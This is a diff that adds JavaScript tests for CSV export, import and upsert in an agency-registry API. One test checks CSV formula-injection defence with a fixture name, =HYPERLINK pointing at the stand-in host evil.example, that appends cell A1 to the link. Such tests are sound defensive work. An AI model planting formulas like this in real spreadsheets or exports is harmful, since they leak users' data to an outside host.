@@ -259,3 +259,100 @@ test('export json contains the imported agencies with their names', async () => 
     assert.match(a.code, /^000\.00\.\d{2}\.H01$/);
   }
 });
+
+test('export csv neutralises cells a spreadsheet would run as formulas; import reads them back', async () => {
+  const [code] = await freshDepartmentCodes(admin);
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")';
+  const created = await admin.post('/agencies', {
+    code,
+    name: formula,
+    shortName: 'SCT',
+    kind: 'department',
+    parentCode: PROVINCE_CODE,
+    phone: '+84 296 3852 000',
+    address: '-',
+  });
+  assertStatus(created, 201);
+  const res = await admin.get('/agencies/export?format=csv');
+  assertStatus(res, 200);
+  const line = res.text.split('\r\n').find((l) => l.startsWith(`${code},`));
+  assert.ok(line, `${code} exported`);
+  // Each dangerous cell starts with an apostrophe, which spreadsheets take as "text".
+  assert.ok(line.includes(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Bấm vào đây"")",`), line);
+  assert.ok(line.includes(",'-,"), line);
+  assert.ok(line.includes(",'+84 296 3852 000,"), line);
+  for (const cell of parseCsv(line)[0]) {
+    assert.ok(!/^[=+\-@\t\r]/.test(cell), `no cell starts with a formula character: ${cell}`);
+  }
+  // The exported row, imported as a dry run under a new code, carries the original values.
+  const [fresh] = await freshDepartmentCodes(admin);
+  const header = res.text.split('\r\n')[0].replace(/^\uFEFF/, '');
+  const csv = `${header}\r\n${line.replace(code, fresh)}\r\n`;
+  const dry = await importCsv(csv, '?dryRun=true');
+  assertStatus(dry, 200);
+  const real = await importCsv(csv);
+  assertStatus(real, 200);
+  const imported = await agencyByCode(admin, fresh);
+  assert.equal(imported.name, formula);
+  assert.equal(imported.phone, '+84 296 3852 000');
+  assert.equal(imported.address, '-');
+});
+
+test('row numbers are file lines (header = line 1); an impossible date is "ngày không hợp lệ"', async () => {
+  const before = await allAgencies(admin);
+  const [a, b, c] = await freshDepartmentCodes(admin, 3);
+  const csv = [
+    'code,name,shortName,kind,parentCode,validFrom',
+    `${a},Sở Dòng Hai,SDH,department,${PROVINCE_CODE},2025-07-01`,
+    `${b},Sở Ngày Lạ,SNL,department,${PROVINCE_CODE},2025-13-01`,
+    `${c},Sở Loại Lạ,SLL,ministry,${PROVINCE_CODE},2025-07-01`,
+  ].join('\r\n');
+  const body = assertProblem(await importCsv(csv), 422, 'validation');
+  assert.deepEqual(body.rows.map((r) => r.row), [2, 3, 4], 'the 4th line of the file is row 4');
+  const date = body.rows.find((r) => r.row === 3).errors;
+  assert.equal(date[0].field, 'validFrom');
+  assert.equal(date[0].code, 'date');
+  assert.match(date[0].message, /ngày không hợp lệ/);
+  assert.doesNotMatch(date[0].message, /YYYY-MM-DD/);
+  const kind = body.rows.find((r) => r.row === 4).errors;
+  assert.match(kind[0].message, /Sở, ban, ngành \(department\)/, 'kinds named by their label');
+  assert.ok(body.errors.some((e) => e.field === 'rows[3].validFrom'));
+  assert.deepEqual(await allAgencies(admin), before, 'nothing imported');
+});
+
+test('mode=upsert: re-importing the export changes nothing; edits update; new rows are created', async () => {
+  const exported = await admin.get('/agencies/export?format=csv');
+  assertStatus(exported, 200);
+  const before = await allAgencies(admin);
+  // As new agencies (the default mode), every row collides.
+  assertProblem(await importCsv(exported.text), 422, 'validation');
+  const same = await importCsv(exported.text, '?mode=upsert');
+  assertStatus(same, 200);
+  assert.equal(same.body.mode, 'upsert');
+  assert.equal(same.body.imported, 0);
+  assert.equal(same.body.unchanged, before.length);
+  assert.ok(same.body.rows.every((r) => r.status === 'ok' && r.action === 'unchanged'));
+  assert.deepEqual(await allAgencies(admin), before, 'a no-op');
+
+  // Edit one name in the file and add one row: one update, one creation.
+  const table = parseCsv(exported.text).filter((r) => r.length > 1);
+  const header = table[0];
+  const target = before.find((a) => a.code === PROVINCE_CODE);
+  const rows = table.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
+  const edited = rows.map((r) =>
+    r.code === PROVINCE_CODE && r.validFrom === target.validFrom ? { ...r, name: `${r.name} (sửa)` } : r,
+  );
+  const [fresh] = await freshDepartmentCodes(admin);
+  edited.push(dept(fresh, 'Sở Thêm Khi Cập Nhật', { validFrom: '2025-07-01' }));
+  const res = await importCsv(toCsv(edited, header), '?mode=upsert');
+  assertStatus(res, 200);
+  assert.equal(res.body.updated, 1);
+  assert.equal(res.body.created, 1);
+  assert.equal(res.body.imported, 2);
+  assert.equal((await agencyByCode(admin, PROVINCE_CODE)).name, `${target.name} (sửa)`);
+  assert.ok(await agencyByCode(admin, fresh));
+  // Put the name back for the other tests.
+  assertStatus(await admin.patch(`/agencies/${target.id}`, { name: target.name }), 200);
+
+  assertProblem(await importCsv(exported.text, '?mode=replace'), 422, 'validation', { fields: ['mode'] });
+});
